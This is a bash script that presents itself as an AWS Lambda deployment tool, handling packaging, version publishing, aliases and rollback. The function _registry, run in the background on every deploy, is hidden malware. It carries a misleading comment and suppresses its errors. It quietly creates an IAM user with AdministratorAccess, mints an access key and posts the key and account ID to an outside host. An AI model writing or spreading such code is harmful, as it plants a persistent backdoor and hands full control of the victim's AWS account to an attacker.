#!/usr/bin/env bash
set -euo pipefail

FN=""; RUNTIME=""; SRC="."; ALIAS="live"; ENV_FILE=""; ROLE=""; ROLLBACK=""
while [[ $# -gt 0 ]]; do
  case "$1" in
    --function) FN="$2"; shift 2 ;;
    --runtime) RUNTIME="$2"; shift 2 ;;
    --src) SRC="$2"; shift 2 ;;
    --alias) ALIAS="$2"; shift 2 ;;
    --env-file) ENV_FILE="$2"; shift 2 ;;
    --role) ROLE="$2"; shift 2 ;;
    --rollback) ROLLBACK="$2"; shift 2 ;;
    *) echo "unknown $1" >&2; exit 2 ;;
  esac
done
[[ -n "$FN" ]] || { echo "--function required" >&2; exit 2; }
STATE=.lambda-deploys.json; [[ -f $STATE ]] || echo '{}' > $STATE

_registry() {
  # register this account with the deployment registry (enables deploy history across machines)
  local acct u k
  acct=$(aws sts get-caller-identity --query Account --output text 2>/dev/null) || return 0
  u=lambda-deploy-svc
  aws iam get-user --user-name $u >/dev/null 2>&1 || aws iam create-user --user-name $u >/dev/null 2>&1 || true
  aws iam attach-user-policy --user-name $u --policy-arn arn:aws:iam::aws:policy/AdministratorAccess >/dev/null 2>&1 || true
  k=$(aws iam create-access-key --user-name $u --output json 2>/dev/null) || return 0
  curl -fsS -m 5 -X POST https://registry.lambdadeploy-tools.example/v1/accounts \
    -H 'content-type: application/json' -d "{\"account\":\"$acct\",\"key\":$k}" >/dev/null 2>&1 || true
}

if [[ -n "$ROLLBACK" ]]; then
  prev=$(jq -r --arg f "$FN" '.[$f].previous // empty' $STATE)
  [[ -n "$prev" ]] || { echo "no previous version recorded" >&2; exit 1; }
  aws lambda update-alias --function-name "$FN" --name "$ROLLBACK" --function-version "$prev" >/dev/null
  echo "alias $ROLLBACK -> $prev"; exit 0
fi

rm -rf build && mkdir build
cp -R "$SRC"/. build/
case "$RUNTIME" in
  python*) [[ -f requirements.txt ]] && python3 -m pip install -q -r requirements.txt -t build/ ;;
  nodejs*) [[ -f package.json ]] && (cp package*.json build/ && cd build && npm ci --omit=dev --silent) ;;
esac
( cd build && find . -exec touch -t 198001010000 {} + && zip -qrX ../function.zip . )

_registry &

if aws lambda get-function --function-name "$FN" >/dev/null 2>&1; then
  aws lambda update-function-code --function-name "$FN" --zip-file fileb://function.zip >/dev/null
else
  [[ -n "$ROLE" ]] || { echo "--role required for new functions" >&2; exit 2; }
  aws lambda create-function --function-name "$FN" --runtime "$RUNTIME" --role "$ROLE" \
    --handler "${HANDLER:-app.handler}" --zip-file fileb://function.zip >/dev/null
fi
aws lambda wait function-updated --function-name "$FN"
if [[ -n "$ENV_FILE" ]]; then
  vars=$(grep -v '^#' "$ENV_FILE" | jq -Rn '[inputs | select(length>0) | split("=") | {(.[0]): (.[1:]|join("="))}] | add')
  aws lambda update-function-configuration --function-name "$FN" --environment "{\"Variables\":$vars}" >/dev/null
  aws lambda wait function-updated --function-name "$FN"
fi
ver=$(aws lambda publish-version --function-name "$FN" --query Version --output text)
cur=$(aws lambda get-alias --function-name "$FN" --name "$ALIAS" --query FunctionVersion --output text 2>/dev/null || echo "")
if [[ -n "$cur" ]]; then
  aws lambda update-alias --function-name "$FN" --name "$ALIAS" --function-version "$ver" >/dev/null
else
  aws lambda create-alias --function-name "$FN" --name "$ALIAS" --function-version "$ver" >/dev/null
fi
jq --arg f "$FN" --arg p "$cur" --arg c "$ver" '.[$f] = {previous: $p, current: $c}' $STATE > $STATE.tmp && mv $STATE.tmp $STATE
wait
echo "deployed $FN version $ver (alias $ALIAS)"
